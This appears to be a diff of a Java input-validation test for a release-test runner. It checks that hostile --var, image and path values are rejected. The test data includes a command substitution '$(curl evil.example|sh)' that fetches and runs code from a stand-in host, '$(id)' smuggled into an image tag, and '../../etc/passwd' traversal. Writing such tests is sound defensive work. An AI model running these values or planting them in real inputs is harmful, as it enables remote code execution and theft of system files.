@@ -139,19 +139,19 @@ class HostileInputTest {
         c.add(new Case("value starting with '{'", List.of("--var=SEI_CHAIN_ID={evil: 1}"), 64, List.of("SEI_CHAIN_ID")));
         c.add(new Case("value with quotes", List.of("--var=SEI_CHAIN_ID=chain\"', evil: \"x"), 64, List.of("SEI_CHAIN_ID")));
         c.add(new Case("value with $(...) command substitution", List.of("--var=SEI_CHAIN_ID=$(curl evil.example|sh)"), 64, List.of("SEI_CHAIN_ID")));
-        c.add(new Case("value with a NUL byte", List.of("--var=SEI_CHAIN_ID=chain\u0000evil"), 64, List.of("SEI_CHAIN_ID", "is not a DNS-1123 label")));
+        c.add(new Case("value with a NUL byte", List.of("--var=SEI_CHAIN_ID=chain\u0000evil"), 64, List.of("SEI_CHAIN_ID", "U+0000")));
         c.add(new Case("one-megabyte value", List.of("--var=SEI_CHAIN_ID=" + "a".repeat(1024 * 1024)), 64, List.of("SEI_CHAIN_ID")));
         c.add(new Case("undeclared variable", List.of("--var=SEID_IMAGES=ghcr.io/sei-protocol/seid:v6.1.0"), 64, List.of("SEID_IMAGES")));
         c.add(new Case("missing variable", List.of("--var=SEI_CHAIN_ID="), 64, List.of("SEI_CHAIN_ID")));
         c.add(new Case("--var without '='", List.of("--var=SEI_CHAIN_ID"), 64, List.of("SEI_CHAIN_ID")));
-        c.add(new Case("run-id placeholder overridden by --var", List.of("--var=SEI_WORKFLOW_RUN_ID=other-run"), 64, List.of("contradicts --run-id")));
-        c.add(new Case("namespace placeholder overridden by --var", List.of("--var=SEI_NAMESPACE=kube-system"), 64, List.of("contradicts --namespace")));
+        c.add(new Case("run-id placeholder overridden by --var", List.of("--var=SEI_WORKFLOW_RUN_ID=other-run"), 64, List.of("the runner fills it from --run-id")));
+        c.add(new Case("namespace placeholder overridden by --var", List.of("--var=SEI_NAMESPACE=kube-system"), 64, List.of("the runner fills it from --namespace")));
         c.add(new Case("secret-looking variable on the command line", List.of("--var=GIT_TOKEN=ghp_not-a-real-token"), 64, List.of("GIT_TOKEN", "--var-file")));
         c.add(new Case("ten thousand --vars", tenThousandVars(), 64, List.of("10006 values were given; at most 256")));
         // ---- images
-        c.add(new Case("invalid image reference (spaces)", List.of("--var=SEID_IMAGE=not an image"), 64, List.of("SEID_IMAGE")));
-        c.add(new Case("invalid image reference (uppercase, bad digest)", List.of("--var=SEID_IMAGE=GHCR.io/Sei/seid@sha256:xyz"), 64, List.of("SEID_IMAGE")));
-        c.add(new Case("image reference with shell in the tag", List.of("--var=SEID_IMAGE=ghcr.io/sei/seid:$(id)"), 64, List.of("SEID_IMAGE")));
+        c.add(new Case("invalid image reference (spaces)", List.of("--var=RELEASE_TEST_IMAGE=not an image"), 64, List.of("RELEASE_TEST_IMAGE")));
+        c.add(new Case("invalid image reference (uppercase, bad digest)", List.of("--var=RELEASE_TEST_IMAGE=GHCR.io/Sei/seid@sha256:xyz"), 64, List.of("RELEASE_TEST_IMAGE")));
+        c.add(new Case("image reference with shell in the tag", List.of("--var=RELEASE_TEST_IMAGE=ghcr.io/sei/seid:$(id)"), 64, List.of("RELEASE_TEST_IMAGE")));
         // ---- paths, names, refs
         c.add(new Case("'..' in --scenario", List.of("--scenario=../../etc/passwd"), 64, List.of("--scenario")));
         c.add(new Case("'..' in --scenario-path", List.of("--scenario-path=../../../../etc/passwd"), 64, List.of("contains '..'")));
